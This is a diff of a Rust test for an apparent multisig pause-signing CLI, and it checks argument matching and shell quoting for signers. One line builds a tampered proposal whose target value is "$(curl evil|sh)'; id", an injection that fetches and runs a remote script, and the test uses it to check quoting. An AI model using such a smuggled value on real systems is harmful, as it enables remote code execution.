@@ -251,12 +251,16 @@ fn a_strangers_arguments_are_not_bobs() {
 fn an_open_argument_is_said_by_every_signer() {
     let mut ceremony = two_of_three();
     ceremony.add_to_council("\n[levers.any]\nplaybook = \"pause/oz-pausable\"\nsafe = \"guardian\"\n");
-    let [alice, bob, _] = &ceremony.desks[..] else { unreachable!() };
-    let made = alice.run(&["--json", "pause", "any", "--set", "target=vault"]).ended(0).json();
-    let proposal = read_json(&alice.path(made["proposal"].as_str().unwrap()));
+    let [alice, bob, carol] = &ceremony.desks[..] else { unreachable!() };
+    let made = alice.run(&["--json", "pause", "any", "--set", "target=vault"]).ended(0);
+    assert!(made.stderr.contains("breakglass sign any --set target=vault --ledger"), "{}", made.stderr);
+    let proposal = read_json(&alice.path(made.json()["proposal"].as_str().unwrap()));
     bob_refuses(bob, &proposal, &[], 4, &["not-your-arguments", "target = vault", "--set target=vault"]);
     let file = hand_over(bob, &proposal);
     sign(bob, &[&file, "--set", "target=vault"]);
+    // A value is a value: the vault's address is what its name stands for.
+    let set = format!("target={}", ceremony.vault);
+    try_sign(carol, &[&hand_over(carol, &proposal), "--set", &set]).ended(0);
     // What is copied from the screen is one word for a shell, whatever a stranger wrote.
     let evil = changed(&proposal, "/levers/0/arguments/target", &json!("$(curl evil|sh)'; id"));
     bob_refuses(bob, &evil, &[], 4, &[r"--set 'target=$(curl evil|sh)'\''; id'"]);
